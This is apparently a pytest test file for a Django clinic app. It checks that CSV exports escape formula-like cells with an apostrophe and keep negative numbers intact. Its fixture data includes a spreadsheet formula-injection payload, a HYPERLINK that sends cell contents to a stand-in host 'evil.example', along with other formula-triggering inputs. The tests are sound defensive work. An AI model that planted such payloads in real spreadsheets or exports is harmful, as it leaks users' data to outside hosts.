"""Every CSV the app writes opens in a spreadsheet as data: no cell becomes a formula, numbers stay numbers."""

import csv
import io

import pytest
from django.core.management import call_command

from clinic.lib.csvsafe import csv_write, safe_cell
from patients.models import Condition
from sessions.tests.test_outcomes import _patient

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'


@pytest.mark.parametrize(
    "typed",
    [EVIL, "+SUM(A1:A9)", "-2+3", "@cmd", "\t=1+1", "\r=1+1", "-", "+1.7 to =2"],
)
def test_text_that_would_start_a_formula_gets_a_leading_apostrophe(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("number", ["-1.2", "+2.6", "-0.4 to +1.9", "78%", "-3", ".5", "1e-3", "94.2"])
def test_text_that_is_only_a_number_or_a_range_is_kept_as_it_is(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("value", [-1.2, -3, 0, None, True])
def test_numbers_and_empty_cells_are_written_as_they_are(value):
    assert safe_cell(value) is value


def test_ordinary_text_is_unchanged_even_with_a_formula_character_inside():
    assert safe_cell("Raynaud's = cold fingers") == "Raynaud's = cold fingers"


def test_csv_write_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    csv_write(out, [[EVIL, -2.0, "-2.0"], ["ok", "@x", 5]], lineterminator="\n")
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'" + EVIL, "-2.0", "-2.0"], ["ok", "'@x", "5"]]


@pytest.fixture
def evil_condition(db):
    """Five patients whose SpO₂ fell, in a condition whose name is a spreadsheet formula."""
    Condition.objects.create(name=EVIL, slug="evil")
    for pre in (95, 96, 97, 98, 99):
        _patient("evil", {1: {"spo2_pre": pre}, 6: {"spo2_post": pre - 2}})


def test_the_dashboard_csv_writes_a_formula_like_condition_as_text_and_keeps_negative_figures(
    client, clinic_lead, evil_condition
):
    client.force_login(clinic_lead)
    response = client.get("/admin/outcomes/", {"download": "csv"})
    header, row = list(csv.reader(io.StringIO(response.content.decode().removeprefix("\ufeff"))))
    assert row[0] == "'" + EVIL
    assert row[header.index("delta_spo2")] == "-2.0"
    assert row[header.index("ci_low")] == "-2.0"


def test_cohort_table_csv_writes_a_formula_like_condition_as_text_and_keeps_negative_figures(evil_condition):
    out = io.StringIO()
    call_command("cohort_table", "--format", "csv", stdout=out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[0] == "'" + EVIL
    assert row[header.index("delta_spo2")] == "-2.0"
    assert row[header.index("ci_low")] == "-2.0"
